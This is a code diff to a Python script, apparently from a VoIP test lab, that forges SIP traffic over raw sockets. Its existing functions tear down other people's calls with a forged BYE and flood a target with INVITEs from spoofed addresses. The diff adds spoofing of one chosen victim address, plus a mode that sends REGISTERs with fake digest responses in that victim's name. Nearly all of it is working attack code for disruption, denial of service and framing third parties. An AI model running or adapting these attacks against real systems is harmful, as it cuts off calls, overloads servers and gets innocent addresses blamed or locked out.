@@ -1,8 +1,10 @@
 #!/usr/bin/env python3
-"""Packets that no tool of the lab makes: a BYE into a call that somebody else has, and INVITEs from addresses that nobody has.
+"""Packets that no tool of the lab makes: a BYE into a call that somebody else has, and requests from addresses that others have, or nobody.
 
     forge.py bye INTERFACE CALLEE SENDER     hears at INTERFACE how a call to CALLEE is set up, waits two seconds, ends it as SENDER
-    forge.py flood TARGET RATE SECONDS       INVITEs to TARGET from many forged addresses
+    forge.py flood TARGET RATE SECONDS [AS]  INVITEs to TARGET from many forged addresses, or from the address AS alone
+    forge.py guess TARGET USER COUNT AS      REGISTERs of USER to TARGET from the address AS, each with a password that is guessed for a
+                                             challenge that is made up: the real one went to AS
 
 CALLEE and SENDER are address:port.
 
@@ -75,8 +77,8 @@ def end_a_call(interface, victim, here):
     print("BYE sent for", header(message, b"Call-ID"))
 
 
-def flood(target, rate, seconds):
-    sources = [f"198.51.100.{n}" for n in range(100, 250)] + [f"203.0.113.{n}" for n in range(100, 250)]
+def flood(target, rate, seconds, victim=None):
+    sources = [victim] if victim else [f"198.51.100.{n}" for n in range(100, 250)] + [f"203.0.113.{n}" for n in range(100, 250)]
     begun = time.monotonic()
     with raw() as sender:
         for n in range(int(rate * seconds)):
@@ -92,11 +94,27 @@ def flood(target, rate, seconds):
     print("INVITEs sent:", int(rate * seconds))
 
 
+def guess(target, user, count, victim):
+    with raw() as sender:
+        for n in range(count):
+            register = (f"REGISTER sip:{target} SIP/2.0\r\nVia: SIP/2.0/UDP {victim}:5060;branch=z9hG4bKg{n}\r\n"
+                        f"From: <sip:{user}@{target}>;tag=g{n}\r\nTo: <sip:{user}@{target}>\r\nCall-ID: guess-{n}@{victim}\r\n"
+                        f"CSeq: {n + 1} REGISTER\r\nContact: <sip:{user}@{victim}:5060>\r\nMax-Forwards: 70\r\n"
+                        f'Authorization: Digest username="{user}", realm="lab.example", nonce="{n:032x}", uri="sip:{target}", '
+                        f'response="{n * 7919:032x}", algorithm=MD5\r\nContent-Length: 0\r\n\r\n').encode()
+            sender.sendto(datagram((victim, 5060), (target, 5060), register, n), (target, 5060))
+            time.sleep(0.03)
+    print("REGISTERs sent:", count)
+
+
 def main():
-    if sys.argv[1] == "bye":
-        end_a_call(sys.argv[2], endpoint(sys.argv[3]), endpoint(sys.argv[4]))
+    what, *words = sys.argv[1:]
+    if what == "bye":
+        end_a_call(words[0], endpoint(words[1]), endpoint(words[2]))
+    elif what == "guess":
+        guess(words[0], words[1], int(words[2]), words[3])
     else:
-        flood(sys.argv[2], float(sys.argv[3]), float(sys.argv[4]))
+        flood(words[0], float(words[1]), float(words[2]), *words[3:])
 
 
 main()
